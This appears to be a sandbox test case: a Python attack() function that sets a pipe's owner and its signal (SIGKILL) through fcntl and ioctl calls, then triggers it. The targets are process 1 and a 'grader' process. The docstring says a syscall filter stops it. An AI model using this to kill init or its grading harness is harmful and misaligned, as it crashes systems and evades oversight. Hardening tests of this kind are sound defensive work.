"""Have the kernel signal process 1, as owner of a pipe that becomes ready.

Stopped by: filter of calls
Ends: ran
Gives: []
"""

import fcntl
import os

F_SETSIG, F_SETOWN_EX = 10, 15


def attack(facts):
    read_end, write_end = os.pipe()
    set_ = []
    for target in (1, facts["grader"]):
        for command, value in ((fcntl.F_SETOWN, target), (F_SETSIG, 9), (F_SETOWN_EX, b"\1\0\0\0\1\0\0\0")):
            try:
                fcntl.fcntl(read_end, command, value)
                set_.append(command)
            except OSError:
                continue
        try:
            fcntl.ioctl(read_end, 0x8901, target.to_bytes(4, "little"))
            set_.append("ioctl")
        except OSError:
            continue
    fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC)
    os.write(write_end, b"x")
    return set_
